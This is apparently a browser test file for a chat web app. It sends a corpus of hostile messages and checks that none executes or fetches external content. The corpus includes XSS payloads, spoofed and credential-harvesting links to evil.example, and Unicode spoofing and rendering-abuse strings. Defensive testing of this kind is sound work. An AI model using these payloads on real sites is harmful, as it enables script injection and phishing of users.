import assert from "node:assert/strict";
import { messageWith, webTest } from "./browser.ts";

/** What others have tried on chat pages; a page that falls for one of them sets window.hacked. */
const CORPUS = [
  "<script>window.hacked=1</script>",
  "<img src=x onerror=window.hacked=1>",
  "<svg/onload=window.hacked=1>",
  "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
  "<a href=javascript:window.hacked=1>click</a>",
  "[click](javascript:window.hacked=1)",
  "[click](JaVaScRiPt:window.hacked=1)",
  "[click](data:text/html,<script>window.hacked=1</script>)",
  "[click](vbscript:window.hacked=1)",
  '[click](https://example.org/"onmouseover="window.hacked=1)',
  "[https://bank.example](https://evil.example/)",
  "https://bank.example@evil.example/",
  "https://example.org/<script>window.hacked=1</script>",
  "javascript:window.hacked=1",
  "`<img src=x onerror=window.hacked=1>`",
  "```\n</code></pre><script>window.hacked=1</script>\n```",
  "> <details open ontoggle=window.hacked=1>",
  "- <style>@import 'https://evil.example/x.css'</style>",
  "**<b onclick=window.hacked=1>bold</b>**",
  "{{constructor.constructor('window.hacked=1')()}}",
  "${window.hacked=1}",
  "%3Cscript%3Ewindow.hacked=1%3C/script%3E",
  "&lt;script&gt;window.hacked=1&lt;/script&gt;",
  "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
  "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
  "<template><script>window.hacked=1</script></template>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<form action=https://evil.example/><input name=password></form>",
  "__proto__ constructor toString hasOwnProperty",
  "@__proto__ @constructor @toString",
  "\u202Egnp.exe\u202C \u2066left\u2069 \u200Bzero\u200B",
  "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032F\u031E\u0320\u034D"
    .repeat(40),
  "\uFDFD".repeat(200),
  "W".repeat(16_000),
  `${"x ".repeat(8000)}`,
  "\n".repeat(3000) + "end",
  "*".repeat(16_000),
  "`".repeat(16_000),
  "[".repeat(16_000),
  "_a".repeat(8_000),
  ">".repeat(16_000),
  `${"> ".repeat(2000)}deep`,
  "- \n".repeat(5000),
  "http://".repeat(2000),
  "@a".repeat(8000),
  "🏴‍☠️👩‍👩‍👧‍👦".repeat(300),
];

webTest("hostile messages do no harm to the page", async (web) => {
  const [olga, gil] = [await web.rig.owner(), await web.rig.person("gil")];
  const page = await web.open(olga);
  const client = await web.rig.live(gil);
  const [channelId] = client.replica.channels.keys();
  const requests: string[] = [];
  page.on("request", (request) => requests.push(request.url()));
  for (const text of CORPUS) {
    await client.sendMessage(channelId!, text);
    await client.addReaction(
      { channelId: channelId!, seq: client.replica.channels.get(channelId!)!.headSeq },
      "👍",
    );
  }
  await client.updateProfile("<img src=x onerror=window.hacked=1>");
  const topic = "<script>window.hacked=1</script>".repeat(10);
  const made = await client.createChannel("evil", { topic });
  await client.sendMessage(channelId!, "@olga <b>see</b> `this`");
  await client.addMember(made.id, olga.user.id);
  await client.sendMessage(channelId!, "the end");
  await client.close();
  await messageWith(page, "the end").waitFor();
  await page.locator(".channel", { hasText: "evil" }).waitFor();
  const links = await page.locator(".text a").all();
  assert.ok(links.length > 0);
  for (const link of links) {
    const href = await link.getAttribute("href");
    assert.match(href!, /^https?:\/\//);
    assert.match((await link.getAttribute("rel"))!, /noopener/);
    assert.equal(new URL(href!).username, "", "nothing stands before an @");
  }
  const faked = messageWith(page, "https://bank.example").first();
  assert.match(
    await page.locator(".text").allInnerTexts().then((texts) => texts.join()),
    /\(evil\.example\)/,
  );
  await faked.hover();
  for (const row of await page.locator(".message").all()) await row.scrollIntoViewIfNeeded();
  assert.equal(await page.evaluate(() => (globalThis as { hacked?: number }).hacked), undefined);
  assert.deepEqual(
    requests.filter((url) => !url.startsWith(web.rig.url)),
    [],
    "nothing is fetched from elsewhere",
  );
  assert.equal(
    await page.locator(".messages script, .messages iframe, .messages img, .messages style").count(),
    0,
  );
  assert.ok(
    await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth),
    "nothing is too wide",
  );
  const heights = await page.locator(".message").evaluateAll((rows) => rows.map((row) => row.clientHeight));
  assert.ok(Math.max(...heights) < 700, `a message is ${Math.max(...heights)} pixels high`);
});

webTest("names that deceive show who they are", async (web) => {
  const [olga, gil] = [await web.rig.owner(), await web.rig.person("gil")];
  const client = await web.rig.live(gil);
  const [channelId] = client.replica.channels.keys();
  for (const name of ["olga\u202E", "ol\u200Bga", "\u2066olga\u2069"]) {
    await assert.rejects(client.updateProfile(name), "the server refuses what cannot be seen");
  }
  await client.updateProfile("оlgа");
  await client.sendMessage(channelId!, "It is me, really");
  await client.close();
  const page = await web.open(olga);
  await messageWith(page, "It is me, really").locator(".login", { hasText: /^@gil$/ }).waitFor();
});
